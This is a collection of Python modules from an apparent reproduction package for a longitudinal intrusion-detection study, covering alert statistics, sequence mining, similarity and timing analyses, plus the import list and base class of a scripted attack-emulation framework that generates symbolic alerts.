* :mod:`repro.telemetry` -- Zeek / syslog / auditd / osquery log
  models, the raw-log-to-symbolic-alert normaliser, scan filtering and
  ground-truth annotation.
* :mod:`repro.incidents` -- the longitudinal incident corpus
  (synthetic stand-in for NCSA's 2000-2024 archive) and the S1..S43
  attack-pattern catalogue.
* :mod:`repro.testbed` -- the testbed architecture: honeypot,
  vulnerable services, VRT, black-hole router, isolation, and the
  end-to-end alert pipeline.
* :mod:`repro.attacks` -- attack emulation (mass scanners, brute force,
  the PostgreSQL ransomware family) and incident replay.
* :mod:`repro.viz` -- attack-graph construction, force-directed layout,
  and export (the Fig. 1 visualisation).
* :mod:`repro.analysis` -- the longitudinal measurement study
  (Table I, Fig. 2, Fig. 3, and the insights).
* :mod:`repro.fuzz` -- the adversarial campaign fuzzer and the
  cross-configuration differential oracle (engine x shards x backend x
  driver equivalence as a generative, checked property).
* :mod:`repro.service` -- the always-on detection service: asyncio
  JSONL-over-TCP ingestion with admission control, live N->M
  resharding, and drain-then-checkpoint lifecycle.
"""

__version__ = "1.0.0"

__all__ = [
    "core",
    "telemetry",
    "incidents",
    "testbed",
    "attacks",
    "viz",
    "analysis",
    "fuzz",
    "service",
    "__version__",
]
