"""Critical-alert quantification (Insight 4).

Insight 4: critical alerts (unauthorized privilege escalation, PII in
an outgoing HTTP request, ...) are conclusive evidence of compromise,
but they arrive after the damage -- the corpus contains 19 unique
critical alert types occurring 98 times across the >200 incidents, and
when a critical alert was recorded it was already too late to preempt
the integrity loss.  This module measures those quantities on a corpus:
how many critical alert types occur, how often, how late in each
incident they appear (by position and by time), and what fraction of
incidents a critical-only detector could ever flag.
"""

from __future__ import annotations

import dataclasses
from collections import Counter
from typing import Optional

import numpy as np

from ..core.alerts import AlertVocabulary, DEFAULT_VOCABULARY
from ..incidents.corpus import IncidentCorpus

#: Published Insight 4 values.
PAPER_UNIQUE_CRITICAL_ALERTS = 19
PAPER_CRITICAL_OCCURRENCES = 98


@dataclasses.dataclass
class CriticalityStudyResult:
    """Everything the Insight-4 benchmark reports."""

    unique_critical_types: int
    total_occurrences: int
    occurrences_by_type: dict[str, int]
    incidents_with_critical: int
    incidents_total: int
    mean_relative_position: float
    mean_time_fraction: float
    detectable_fraction: float

    @property
    def coverage(self) -> float:
        """Fraction of incidents containing at least one critical alert."""
        if self.incidents_total == 0:
            return 0.0
        return self.incidents_with_critical / self.incidents_total


def criticality_study(
    corpus: IncidentCorpus,
    vocabulary: Optional[AlertVocabulary] = None,
) -> CriticalityStudyResult:
    """Measure critical-alert statistics over a corpus."""
    vocab = vocabulary or DEFAULT_VOCABULARY
    occurrences: Counter[str] = Counter()
    incidents_with = 0
    relative_positions: list[float] = []
    time_fractions: list[float] = []
    for incident in corpus:
        names = incident.alert_names
        critical_indices = [
            index for index, name in enumerate(names) if vocab.get(name).critical
        ]
        for index in critical_indices:
            occurrences[names[index]] += 1
        if not critical_indices:
            continue
        incidents_with += 1
        first = critical_indices[0]
        if len(names) > 1:
            relative_positions.append(first / (len(names) - 1))
        else:
            relative_positions.append(1.0)
        duration = incident.duration_seconds
        if duration > 0:
            first_time = incident.sequence[first].timestamp - incident.start_time
            time_fractions.append(first_time / duration)
        else:
            time_fractions.append(1.0)
    return CriticalityStudyResult(
        unique_critical_types=len(occurrences),
        total_occurrences=int(sum(occurrences.values())),
        occurrences_by_type=dict(occurrences),
        incidents_with_critical=incidents_with,
        incidents_total=len(corpus),
        mean_relative_position=float(np.mean(relative_positions)) if relative_positions else 0.0,
        mean_time_fraction=float(np.mean(time_fractions)) if time_fractions else 0.0,
        detectable_fraction=incidents_with / len(corpus) if len(corpus) else 0.0,
    )


def triage_load_without_filtering(daily_alerts: float, analyst_seconds_per_alert: float = 30.0) -> float:
    """Analyst-hours per day needed to review every alert (the Insight-4 strawman).

    With ~94 K daily alerts and ~30 s of analyst time per alert, full
    manual triage needs ~780 analyst-hours per day, which is the
    impracticality argument the paper makes against treating every
    alert as an indicator of a complete attack.
    """
    if daily_alerts < 0 or analyst_seconds_per_alert < 0:
        raise ValueError("inputs must be non-negative")
    return daily_alerts * analyst_seconds_per_alert / 3600.0


__all__ = [
    "PAPER_UNIQUE_CRITICAL_ALERTS",
    "PAPER_CRITICAL_OCCURRENCES",
    "CriticalityStudyResult",
    "criticality_study",
    "triage_load_without_filtering",
]
