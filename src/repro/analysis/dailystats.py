"""Daily alert-volume statistics (Fig. 2).

Fig. 2 shows the daily event counts NCSA's monitors observe over a
sample month: an average of 94,238 alerts per day with a standard
deviation of 23,547, roughly 80 K of which are repeated port and
vulnerability scans (Insight 3).  This module computes those statistics
from a daily-volume series (produced by the corpus generator's volume
model or by counting a replayed alert stream) and provides the binning
helper that turns raw alert timestamps into a daily series.
"""

from __future__ import annotations

import dataclasses
from typing import Optional, Sequence

import numpy as np

from ..core.alerts import Alert

#: Published Fig. 2 values.
PAPER_DAILY_MEAN = 94_238
PAPER_DAILY_STD = 23_547
PAPER_DAILY_SCANS = 80_000


@dataclasses.dataclass
class DailyVolumeStats:
    """Summary statistics of a daily alert-volume series."""

    days: int
    mean: float
    std: float
    minimum: int
    maximum: int
    total: int
    scan_mean: Optional[float] = None

    def within_tolerance(
        self, *, mean_target: float = PAPER_DAILY_MEAN, std_target: float = PAPER_DAILY_STD,
        relative_tolerance: float = 0.15,
    ) -> bool:
        """Whether the series matches the paper's mean/std within tolerance."""
        mean_ok = abs(self.mean - mean_target) <= relative_tolerance * mean_target
        std_ok = abs(self.std - std_target) <= relative_tolerance * std_target
        return mean_ok and std_ok


def summarize_daily_volumes(
    volumes: Sequence[int] | np.ndarray,
    *,
    scan_volumes: Optional[Sequence[int] | np.ndarray] = None,
) -> DailyVolumeStats:
    """Summarise a daily alert-count series."""
    array = np.asarray(volumes, dtype=np.float64)
    if array.size == 0:
        raise ValueError("need at least one day of volumes")
    scan_mean = None
    if scan_volumes is not None:
        scan_array = np.asarray(scan_volumes, dtype=np.float64)
        scan_mean = float(scan_array.mean()) if scan_array.size else None
    return DailyVolumeStats(
        days=int(array.size),
        mean=float(array.mean()),
        std=float(array.std(ddof=0)),
        minimum=int(array.min()),
        maximum=int(array.max()),
        total=int(array.sum()),
        scan_mean=scan_mean,
    )


def bin_alerts_per_day(alerts: Sequence[Alert], *, day_seconds: float = 86_400.0) -> np.ndarray:
    """Bin an alert stream into daily counts (relative to the first alert)."""
    if not alerts:
        return np.zeros(0, dtype=np.int64)
    times = np.array([a.timestamp for a in alerts], dtype=np.float64)
    start = times.min()
    bins = ((times - start) // day_seconds).astype(np.int64)
    counts = np.bincount(bins)
    return counts.astype(np.int64)


def moving_average(volumes: Sequence[int] | np.ndarray, window: int = 7) -> np.ndarray:
    """Centered-ish moving average used to draw the Fig. 2 trend line."""
    array = np.asarray(volumes, dtype=np.float64)
    if window < 1:
        raise ValueError("window must be >= 1")
    if array.size == 0:
        return array
    kernel = np.ones(min(window, array.size)) / min(window, array.size)
    return np.convolve(array, kernel, mode="same")


def render_daily_series(volumes: Sequence[int] | np.ndarray, *, width: int = 60, height: int = 10) -> str:
    """ASCII sparkline-style rendering of the daily series (Fig. 2 stand-in)."""
    array = np.asarray(volumes, dtype=np.float64)
    if array.size == 0:
        return "(no data)"
    if array.size > width:
        # Downsample by averaging fixed-size chunks.
        chunks = np.array_split(array, width)
        array = np.array([chunk.mean() for chunk in chunks])
    maximum = array.max() if array.max() > 0 else 1.0
    rows = []
    for level in range(height, 0, -1):
        threshold = maximum * level / height
        rows.append("".join("#" if value >= threshold else " " for value in array))
    axis = "-" * array.size
    return "\n".join(rows + [axis])


__all__ = [
    "PAPER_DAILY_MEAN",
    "PAPER_DAILY_STD",
    "PAPER_DAILY_SCANS",
    "DailyVolumeStats",
    "summarize_daily_volumes",
    "bin_alerts_per_day",
    "moving_average",
    "render_daily_series",
]
