"""Common-alert-sequence mining (Fig. 3b).

The paper identifies 43 recurring alert sequences (S1..S43) across the
incident corpus and plots how often each was seen (most frequent: 14
times; lengths two to fourteen).  The reproduction mines the corpus in
two complementary ways:

* **Catalogue attribution** -- each incident is attributed to the most
  specific catalogue pattern it contains (longest match, ties broken by
  catalogue order).  This reproduces the published histogram directly
  and is what the Fig. 3b benchmark reports.
* **De-novo mining** -- pairwise longest-common-subsequence extraction
  plus frequency counting, which re-discovers the recurring sequences
  without consulting the catalogue (a consistency check that the
  catalogue is actually recoverable from the data).
"""

from __future__ import annotations

import dataclasses
from collections import Counter
from typing import Optional, Sequence

from ..core.sequences import longest_common_subsequence
from ..incidents.corpus import IncidentCorpus
from ..incidents.patterns import AttackPattern, DEFAULT_CATALOGUE, PatternCatalogue

#: Published Fig. 3b headline values.
PAPER_NUM_PATTERNS = 43
PAPER_MAX_FREQUENCY = 14
PAPER_MIN_LENGTH = 2
PAPER_MAX_LENGTH = 14


@dataclasses.dataclass
class PatternAttribution:
    """The catalogue pattern attributed to one incident (if any)."""

    incident_id: str
    pattern_name: Optional[str]
    pattern_length: int


@dataclasses.dataclass
class LCSStudyResult:
    """Everything the Fig. 3b benchmark reports."""

    histogram: dict[str, int]
    attributions: list[PatternAttribution]
    unattributed_incidents: int
    pattern_lengths: dict[str, int]

    @property
    def max_frequency(self) -> int:
        """Count of the most frequent pattern."""
        return max(self.histogram.values()) if self.histogram else 0

    @property
    def most_frequent_pattern(self) -> Optional[str]:
        """Name of the most frequent pattern."""
        if not self.histogram:
            return None
        return max(self.histogram, key=self.histogram.get)

    @property
    def length_range(self) -> tuple[int, int]:
        """(shortest, longest) pattern length among patterns actually seen."""
        seen = [self.pattern_lengths[name] for name, count in self.histogram.items() if count > 0]
        if not seen:
            return (0, 0)
        return (min(seen), max(seen))

    def counts_in_order(self, catalogue: PatternCatalogue = DEFAULT_CATALOGUE) -> list[int]:
        """Histogram values in catalogue order (the Fig. 3b bar heights)."""
        return [self.histogram.get(name, 0) for name in catalogue.names()]


def attribute_incident(
    names: Sequence[str], catalogue: PatternCatalogue
) -> Optional[AttackPattern]:
    """The most specific catalogue pattern contained in an alert sequence.

    Most specific means longest; ties are broken by catalogue order
    (which also encodes recency of definition).
    """
    best: Optional[AttackPattern] = None
    for pattern in catalogue:
        if not pattern.occurs_in(names):
            continue
        if best is None or pattern.length > best.length:
            best = pattern
    return best


def catalogue_frequency_study(
    corpus: IncidentCorpus,
    catalogue: PatternCatalogue = DEFAULT_CATALOGUE,
) -> LCSStudyResult:
    """Mine the corpus by catalogue attribution (the Fig. 3b histogram)."""
    histogram: dict[str, int] = {name: 0 for name in catalogue.names()}
    attributions: list[PatternAttribution] = []
    unattributed = 0
    for incident in corpus:
        pattern = attribute_incident(incident.alert_names, catalogue)
        if pattern is None:
            unattributed += 1
            attributions.append(
                PatternAttribution(incident.incident_id, None, 0)
            )
            continue
        histogram[pattern.name] += 1
        attributions.append(
            PatternAttribution(incident.incident_id, pattern.name, pattern.length)
        )
    return LCSStudyResult(
        histogram=histogram,
        attributions=attributions,
        unattributed_incidents=unattributed,
        pattern_lengths={p.name: p.length for p in catalogue},
    )


@dataclasses.dataclass
class MinedSequence:
    """One de-novo mined common subsequence."""

    names: tuple[str, ...]
    support: int

    @property
    def length(self) -> int:
        """Number of alerts in the mined sequence."""
        return len(self.names)


def mine_common_subsequences(
    corpus: IncidentCorpus,
    *,
    min_length: int = 2,
    min_support: int = 2,
    max_pairs: Optional[int] = 20_000,
) -> list[MinedSequence]:
    """De-novo mining: pairwise LCS extraction + support counting.

    For every pair of incidents (optionally capped for very large
    corpora) the longest common subsequence of attack-indicative alerts
    is computed; candidate sequences of at least ``min_length`` are then
    counted across all incidents, and those contained in at least
    ``min_support`` incidents are returned, most frequent first.
    """
    from ..core.sequences import is_subsequence
    from .similarity import attack_indicative_sequences

    sequences = attack_indicative_sequences(corpus.attack_sequences())
    names = [seq.names for seq in sequences]
    candidates: Counter[tuple[str, ...]] = Counter()
    pairs_examined = 0
    for i in range(len(names)):
        for j in range(i + 1, len(names)):
            if max_pairs is not None and pairs_examined >= max_pairs:
                break
            pairs_examined += 1
            lcs = longest_common_subsequence(names[i], names[j])
            if len(lcs) >= min_length:
                candidates[lcs] += 1
        if max_pairs is not None and pairs_examined >= max_pairs:
            break
    mined: list[MinedSequence] = []
    for candidate in candidates:
        support = sum(1 for sequence in names if is_subsequence(candidate, sequence))
        if support >= min_support:
            mined.append(MinedSequence(names=candidate, support=support))
    mined.sort(key=lambda m: (-m.support, -m.length, m.names))
    return mined


def mined_catalogue_overlap(
    mined: Sequence[MinedSequence], catalogue: PatternCatalogue = DEFAULT_CATALOGUE
) -> float:
    """Fraction of catalogue patterns recovered (exactly or as a super-sequence).

    Consistency check between de-novo mining and the catalogue: a
    catalogue pattern counts as recovered when some mined sequence
    contains it as an ordered subsequence.
    """
    from ..core.sequences import is_subsequence

    if not len(catalogue):
        return 0.0
    recovered = 0
    mined_names = [m.names for m in mined]
    for pattern in catalogue:
        if any(is_subsequence(pattern.names, names) for names in mined_names):
            recovered += 1
    return recovered / len(catalogue)


__all__ = [
    "PAPER_NUM_PATTERNS",
    "PAPER_MAX_FREQUENCY",
    "PAPER_MIN_LENGTH",
    "PAPER_MAX_LENGTH",
    "PatternAttribution",
    "LCSStudyResult",
    "attribute_incident",
    "catalogue_frequency_study",
    "MinedSequence",
    "mine_common_subsequences",
    "mined_catalogue_overlap",
]
