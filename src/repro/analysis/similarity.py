"""Attack-similarity study (Fig. 3a).

Computes the pairwise Jaccard similarity of the alert sets of all
attacks in a corpus, the corresponding empirical CDF, and the headline
statistic of Insight 1: the fraction of attack pairs sharing at most
33 % of their alerts (paper: more than 95 %).  Similarity is computed
over the *attack-indicative* alerts (benign background alerts that
happen to fall inside an incident window carry no attack information
and are excluded, matching the paper's "similar alerts indicative of
attacks" phrasing); a flag allows including them for sensitivity
analysis.
"""

from __future__ import annotations

import dataclasses
from typing import Optional, Sequence

import numpy as np

from ..core.alerts import AlertCategory, AlertVocabulary, DEFAULT_VOCABULARY
from ..core.sequences import (
    AlertSequence,
    fraction_of_pairs_below,
    pairwise_jaccard_matrix,
    similarity_cdf,
)
from ..incidents.corpus import IncidentCorpus

#: The similarity threshold the paper quotes (33 % of alerts shared).
PAPER_SIMILARITY_THRESHOLD = 0.33

#: The fraction of pairs the paper reports at or below that threshold.
PAPER_FRACTION_BELOW = 0.95


@dataclasses.dataclass
class SimilarityStudyResult:
    """Everything the Fig. 3a benchmark reports."""

    matrix: np.ndarray
    cdf_values: np.ndarray
    cdf_fractions: np.ndarray
    fraction_below_threshold: float
    threshold: float
    num_attacks: int
    mean_similarity: float
    median_similarity: float

    def meets_paper_claim(self) -> bool:
        """Whether >= 95 % of pairs share at most 33 % of their alerts."""
        return self.fraction_below_threshold >= PAPER_FRACTION_BELOW

    def cdf_at(self, value: float) -> float:
        """CDF evaluated at an arbitrary similarity value."""
        if self.cdf_values.size == 0:
            return 1.0
        index = np.searchsorted(self.cdf_values, value, side="right") - 1
        if index < 0:
            return 0.0
        return float(self.cdf_fractions[index])


def attack_indicative_sequences(
    sequences: Sequence[AlertSequence],
    vocabulary: Optional[AlertVocabulary] = None,
) -> list[AlertSequence]:
    """Strip benign-category alerts from each sequence."""
    vocab = vocabulary or DEFAULT_VOCABULARY
    benign = set(vocab.names_for_category(AlertCategory.BENIGN))
    keep = [name for name in vocab.names() if name not in benign]
    return [sequence.filtered(keep) for sequence in sequences]


def similarity_study(
    sequences: Sequence[AlertSequence],
    *,
    vocabulary: Optional[AlertVocabulary] = None,
    threshold: float = PAPER_SIMILARITY_THRESHOLD,
    include_benign: bool = False,
) -> SimilarityStudyResult:
    """Run the Fig. 3a study on a set of attack sequences."""
    vocab = vocabulary or DEFAULT_VOCABULARY
    working = list(sequences) if include_benign else attack_indicative_sequences(sequences, vocab)
    matrix = pairwise_jaccard_matrix(working, vocab)
    values, fractions = similarity_cdf(matrix)
    fraction_below = fraction_of_pairs_below(matrix, threshold)
    n = matrix.shape[0]
    if n >= 2:
        iu = np.triu_indices(n, k=1)
        off_diagonal = matrix[iu]
        mean = float(np.mean(off_diagonal))
        median = float(np.median(off_diagonal))
    else:
        mean = median = 0.0
    return SimilarityStudyResult(
        matrix=matrix,
        cdf_values=values,
        cdf_fractions=fractions,
        fraction_below_threshold=fraction_below,
        threshold=threshold,
        num_attacks=len(working),
        mean_similarity=mean,
        median_similarity=median,
    )


def corpus_similarity_study(
    corpus: IncidentCorpus,
    *,
    vocabulary: Optional[AlertVocabulary] = None,
    threshold: float = PAPER_SIMILARITY_THRESHOLD,
    include_benign: bool = False,
) -> SimilarityStudyResult:
    """Convenience wrapper running the study over a whole corpus."""
    return similarity_study(
        corpus.attack_sequences(),
        vocabulary=vocabulary,
        threshold=threshold,
        include_benign=include_benign,
    )


__all__ = [
    "PAPER_SIMILARITY_THRESHOLD",
    "PAPER_FRACTION_BELOW",
    "SimilarityStudyResult",
    "attack_indicative_sequences",
    "similarity_study",
    "corpus_similarity_study",
]
