"""The full longitudinal measurement study (Table I + all insights).

:func:`run_longitudinal_study` orchestrates every individual analysis
over one corpus and returns a single report object whose fields map
one-to-one onto the paper's published statistics, so the Table I
benchmark, EXPERIMENTS.md, and the quickstart example all read from the
same place.
"""

from __future__ import annotations

import dataclasses
from typing import Optional

from ..core.alerts import AlertVocabulary, DEFAULT_VOCABULARY
from ..incidents.corpus import CorpusStats, IncidentCorpus
from ..incidents.generator import IncidentGenerator
from ..incidents.patterns import DEFAULT_CATALOGUE, PatternCatalogue, download_compile_erase_prevalence
from .criticality import CriticalityStudyResult, criticality_study
from .dailystats import DailyVolumeStats, summarize_daily_volumes
from .lcs_study import LCSStudyResult, catalogue_frequency_study
from .similarity import SimilarityStudyResult, corpus_similarity_study
from .timing import TimingStudyResult, timing_study


@dataclasses.dataclass
class LongitudinalStudyReport:
    """All measured quantities of the §II study."""

    corpus_stats: CorpusStats
    similarity: SimilarityStudyResult
    patterns: LCSStudyResult
    criticality: CriticalityStudyResult
    timing: TimingStudyResult
    daily_volumes: Optional[DailyVolumeStats]
    motif_prevalence: float
    sequence_length_histogram: dict[int, int]

    # ------------------------------------------------------------------
    def paper_comparison(self) -> list[tuple[str, str, str]]:
        """(quantity, paper value, measured value) rows for EXPERIMENTS.md."""
        stats = self.corpus_stats
        rows = [
            ("Total alerts related to successful attacks", "25 M",
             f"{stats.total_raw_alerts / 1e6:.1f} M"),
            ("Alerts after being filtered", "191 K", f"{stats.filtered_alerts / 1e3:.0f} K"),
            ("Successful attacks", "more than 200 incidents", f"{stats.num_incidents} incidents"),
            ("Data size", "30 TB", f"{stats.data_size_terabytes:.0f} TB"),
            ("Time period", "2000-2024", f"{stats.start_year}-{stats.end_year}"),
            ("Attack pairs with <=33% similar alerts", ">95%",
             f"{self.similarity.fraction_below_threshold * 100:.1f}%"),
            ("Recurring alert sequences", "43 (S1..S43)", f"{len(self.patterns.histogram)}"),
            ("Most frequent pattern count", "14", f"{self.patterns.max_frequency}"),
            ("Pattern length range", "2-14",
             f"{self.patterns.length_range[0]}-{self.patterns.length_range[1]}"),
            ("download/compile/erase prevalence", "60.08%", f"{self.motif_prevalence * 100:.2f}%"),
            ("Unique critical alert types", "19", f"{self.criticality.unique_critical_types}"),
            ("Critical alert occurrences", "98", f"{self.criticality.total_occurrences}"),
        ]
        if self.daily_volumes is not None:
            rows.append(
                ("Daily alert volume (mean ± std)", "94,238 ± 23,547",
                 f"{self.daily_volumes.mean:,.0f} ± {self.daily_volumes.std:,.0f}")
            )
        return rows

    def render_text(self) -> str:
        """Human-readable rendering of the comparison table."""
        rows = self.paper_comparison()
        width = max(len(r[0]) for r in rows)
        lines = [f"{'Quantity'.ljust(width)}  {'Paper':>22}  {'Measured':>22}"]
        lines.append("-" * (width + 48))
        for quantity, paper, measured in rows:
            lines.append(f"{quantity.ljust(width)}  {paper:>22}  {measured:>22}")
        return "\n".join(lines)


def run_longitudinal_study(
    corpus: IncidentCorpus,
    *,
    vocabulary: Optional[AlertVocabulary] = None,
    catalogue: PatternCatalogue = DEFAULT_CATALOGUE,
    generator: Optional[IncidentGenerator] = None,
    sample_month_days: int = 60,
) -> LongitudinalStudyReport:
    """Run every analysis of the measurement study over one corpus.

    ``generator`` (when provided) supplies the daily-volume model of
    Fig. 2; without it the daily-volume section is omitted (volumes are
    a property of the monitoring deployment, not of the curated
    incidents).
    """
    vocab = vocabulary or DEFAULT_VOCABULARY
    daily: Optional[DailyVolumeStats] = None
    if generator is not None:
        breakdown = generator.daily_volume_breakdown(sample_month_days)
        daily = summarize_daily_volumes(breakdown["total"], scan_volumes=breakdown["scans"])
    return LongitudinalStudyReport(
        corpus_stats=corpus.stats(),
        similarity=corpus_similarity_study(corpus, vocabulary=vocab),
        patterns=catalogue_frequency_study(corpus, catalogue),
        criticality=criticality_study(corpus, vocab),
        timing=timing_study(corpus, vocab),
        daily_volumes=daily,
        motif_prevalence=download_compile_erase_prevalence(corpus.alert_name_sequences()),
        sequence_length_histogram=corpus.sequence_length_histogram(),
    )


__all__ = ["LongitudinalStudyReport", "run_longitudinal_study"]
