"""Inter-alert timing analysis (Insight 3).

Insight 3: attack sophistication shows in the timing of recurrent
alerts.  Reconnaissance is machine-generated -- repetitive, closely and
regularly spaced -- while post-foothold activity is manual, so the gaps
between alerts become long and highly variable.  This module quantifies
that contrast per incident and per corpus: gap statistics split by
lifecycle stage, coefficient-of-variation comparisons, and the fraction
of daily volume attributable to repeated scanning.
"""

from __future__ import annotations

import dataclasses
from typing import Optional, Sequence

import numpy as np

from ..core.alerts import AlertVocabulary, DEFAULT_VOCABULARY
from ..core.sequences import AlertSequence
from ..core.states import AttackStage
from ..incidents.corpus import IncidentCorpus


@dataclasses.dataclass
class GapStatistics:
    """Summary of inter-alert gaps for one phase."""

    count: int
    mean_seconds: float
    std_seconds: float
    median_seconds: float

    @property
    def coefficient_of_variation(self) -> float:
        """Std/mean; higher means more irregular (human-driven) timing."""
        if self.mean_seconds == 0:
            return 0.0
        return self.std_seconds / self.mean_seconds


def _summarize(gaps: Sequence[float]) -> GapStatistics:
    if not gaps:
        return GapStatistics(count=0, mean_seconds=0.0, std_seconds=0.0, median_seconds=0.0)
    array = np.asarray(gaps, dtype=np.float64)
    return GapStatistics(
        count=int(array.size),
        mean_seconds=float(array.mean()),
        std_seconds=float(array.std(ddof=0)),
        median_seconds=float(np.median(array)),
    )


@dataclasses.dataclass
class TimingStudyResult:
    """Per-phase gap statistics across a corpus."""

    reconnaissance: GapStatistics
    post_foothold: GapStatistics
    incidents_analyzed: int

    @property
    def variability_ratio(self) -> float:
        """Post-foothold CoV divided by reconnaissance CoV (>1 expected)."""
        recon_cov = self.reconnaissance.coefficient_of_variation
        manual_cov = self.post_foothold.coefficient_of_variation
        if recon_cov == 0:
            return float("inf") if manual_cov > 0 else 1.0
        return manual_cov / recon_cov

    def confirms_insight(self) -> bool:
        """Whether post-foothold timing is more variable than reconnaissance."""
        return self.variability_ratio > 1.0


def sequence_gap_phases(
    sequence: AlertSequence,
    vocabulary: Optional[AlertVocabulary] = None,
) -> tuple[list[float], list[float]]:
    """Split a sequence's inter-alert gaps into (recon, post-foothold).

    A gap is attributed to the phase of the alert that *ends* it; the
    reconnaissance phase covers background and reconnaissance-stage
    alerts, everything later is post-foothold.
    """
    vocab = vocabulary or DEFAULT_VOCABULARY
    recon: list[float] = []
    manual: list[float] = []
    alerts = list(sequence)
    for previous, current in zip(alerts, alerts[1:]):
        gap = current.timestamp - previous.timestamp
        stage = vocab.get(current.name).stage
        if stage in (AttackStage.BACKGROUND, AttackStage.RECONNAISSANCE):
            recon.append(gap)
        else:
            manual.append(gap)
    return recon, manual


def timing_study(
    corpus: IncidentCorpus,
    vocabulary: Optional[AlertVocabulary] = None,
) -> TimingStudyResult:
    """Run the Insight-3 timing study over a corpus."""
    vocab = vocabulary or DEFAULT_VOCABULARY
    recon_all: list[float] = []
    manual_all: list[float] = []
    analyzed = 0
    for incident in corpus:
        recon, manual = sequence_gap_phases(incident.sequence, vocab)
        if recon or manual:
            analyzed += 1
        recon_all.extend(recon)
        manual_all.extend(manual)
    return TimingStudyResult(
        reconnaissance=_summarize(recon_all),
        post_foothold=_summarize(manual_all),
        incidents_analyzed=analyzed,
    )


def scan_fraction_of_daily_volume(total_daily: float, scan_daily: float) -> float:
    """Fraction of daily alerts that are repeated scans (paper: ~80K of 94K)."""
    if total_daily <= 0:
        return 0.0
    return min(1.0, scan_daily / total_daily)


__all__ = [
    "GapStatistics",
    "TimingStudyResult",
    "sequence_gap_phases",
    "timing_study",
    "scan_fraction_of_daily_volume",
]
