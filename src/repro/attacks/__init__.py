"""Attack emulation and replay.

Scripted, deterministic attack scenarios that drive the honeypot and
produce the alert streams the detectors are evaluated on: mass
scanners, SSH brute force, stolen-credential chains, and the PostgreSQL
ransomware family of the §V case study, plus a replay engine for
running corpus incidents through detectors and the full pipeline.
"""

from .base import AttackContext, AttackScenario, AttackStep, ScenarioResult
from .bruteforce import (
    BruteForceEmulator,
    BruteForceResult,
    DEFAULT_PASSWORDS,
    DEFAULT_USERNAMES,
    password_spray_alerts,
)
from .credential import GhostAccountScenario, StolenCredentialScenario
from .lateral import (
    InfectionEvent,
    LATERAL_MOVEMENT_SCRIPT,
    LateralMovementEngine,
    LateralMovementResult,
)
from .ransomware import (
    C2_SERVER,
    INITIAL_ATTACKER,
    KNOWN_VARIANTS,
    PAYLOAD_SERVER,
    RansomwareConfig,
    RansomwareScenario,
    RansomwareVariant,
    SECOND_STAGE_URLS,
    TWELVE_DAYS_SECONDS,
    alerts_to_names,
    run_variant,
)
from .replay import ReplayEngine, ReplayEvent, ReplayResult
from .scanner import (
    MassScanEmulator,
    PAPER_FIGURE_SAMPLE,
    PAPER_SCANS_PER_HOUR,
    ScannerProfile,
)

__all__ = [
    "AttackContext",
    "AttackStep",
    "AttackScenario",
    "ScenarioResult",
    "MassScanEmulator",
    "ScannerProfile",
    "PAPER_SCANS_PER_HOUR",
    "PAPER_FIGURE_SAMPLE",
    "BruteForceEmulator",
    "BruteForceResult",
    "DEFAULT_USERNAMES",
    "DEFAULT_PASSWORDS",
    "password_spray_alerts",
    "StolenCredentialScenario",
    "GhostAccountScenario",
    "LateralMovementEngine",
    "LateralMovementResult",
    "InfectionEvent",
    "LATERAL_MOVEMENT_SCRIPT",
    "RansomwareScenario",
    "RansomwareConfig",
    "RansomwareVariant",
    "KNOWN_VARIANTS",
    "run_variant",
    "alerts_to_names",
    "PAYLOAD_SERVER",
    "C2_SERVER",
    "INITIAL_ATTACKER",
    "SECOND_STAGE_URLS",
    "TWELVE_DAYS_SECONDS",
    "ReplayEngine",
    "ReplayEvent",
    "ReplayResult",
]
