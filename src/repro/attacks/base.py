"""Attack-scenario framework.

Attack emulation in the testbed is scripted: a scenario is a sequence
of timed steps, each of which drives honeypot services / monitors and
thereby produces the raw records and symbolic alerts the pipeline sees.
The framework keeps scenarios deterministic (explicit RNG), replayable,
and introspectable (each step records what it did), which is what the
Fig. 5 case-study benchmark and the tests rely on.
"""

from __future__ import annotations

import dataclasses
from typing import Callable, Optional, Sequence

import numpy as np

from ..core.alerts import Alert


@dataclasses.dataclass
class AttackContext:
    """Mutable state shared by the steps of one scenario run.

    Attributes
    ----------
    clock:
        Current scenario time (POSIX seconds); steps advance it.
    attacker_ip:
        The external address the attacker operates from.
    entity:
        The entity (user account or host) the attack is attributed to.
    rng:
        Scenario-local random generator.
    alerts:
        Symbolic alerts the scenario produced directly (in addition to
        whatever the honeypot monitors record as raw logs).
    notes:
        Free-form trace of what each step did (the "attack script").
    artifacts:
        Arbitrary step outputs keyed by name (stolen keys, payload ids,
        dropped file paths, ...), consumed by later steps.
    """

    clock: float
    attacker_ip: str
    entity: str
    rng: np.random.Generator
    alerts: list[Alert] = dataclasses.field(default_factory=list)
    notes: list[str] = dataclasses.field(default_factory=list)
    artifacts: dict[str, object] = dataclasses.field(default_factory=dict)

    def advance(self, seconds: float) -> float:
        """Advance the scenario clock and return the new time."""
        if seconds < 0:
            raise ValueError("cannot move the clock backwards")
        self.clock += seconds
        return self.clock

    def emit_alert(self, name: str, *, host: str = "", **attributes) -> Alert:
        """Emit a symbolic alert attributed to the scenario's entity."""
        alert = Alert(
            timestamp=self.clock,
            name=name,
            entity=self.entity,
            source_ip=self.attacker_ip,
            host=host,
            monitor=str(attributes.pop("monitor", "scenario")),
            attributes=attributes,
        )
        self.alerts.append(alert)
        return alert

    def note(self, message: str) -> None:
        """Record a human-readable trace line."""
        self.notes.append(f"t={self.clock:.0f}s {message}")


@dataclasses.dataclass(frozen=True)
class AttackStep:
    """One step of a scenario: a delay followed by an action."""

    name: str
    delay_seconds: float
    action: Callable[[AttackContext], None]
    description: str = ""


@dataclasses.dataclass
class ScenarioResult:
    """Everything a completed scenario run produced."""

    name: str
    context: AttackContext
    executed_steps: list[str]

    @property
    def alerts(self) -> list[Alert]:
        """Alerts emitted directly by the scenario, time-ordered."""
        return sorted(self.context.alerts, key=lambda a: a.timestamp)

    @property
    def duration_seconds(self) -> float:
        """Wall-clock span of the scenario."""
        if not self.context.alerts:
            return 0.0
        times = [a.timestamp for a in self.context.alerts]
        return max(times) - min(times)

    def alerts_for_entity(self, entity: str) -> list[Alert]:
        """The scenario's time-ordered alerts re-attributed to ``entity``.

        Campaign composition replays one scripted scenario per fuzzed
        attacker, so the same attack chain must be attributable to an
        arbitrary entity (including unicode or hash-colliding names)
        without re-running the scenario.
        """
        return [alert.with_entity(entity) for alert in self.alerts]


class AttackScenario:
    """Base class: a named, ordered list of steps plus a runner."""

    name: str = "attack_scenario"

    def __init__(self, *, seed: int = 0) -> None:
        self.seed = int(seed)

    # -- to be provided by subclasses ----------------------------------------
    def build_steps(self, context: AttackContext) -> Sequence[AttackStep]:
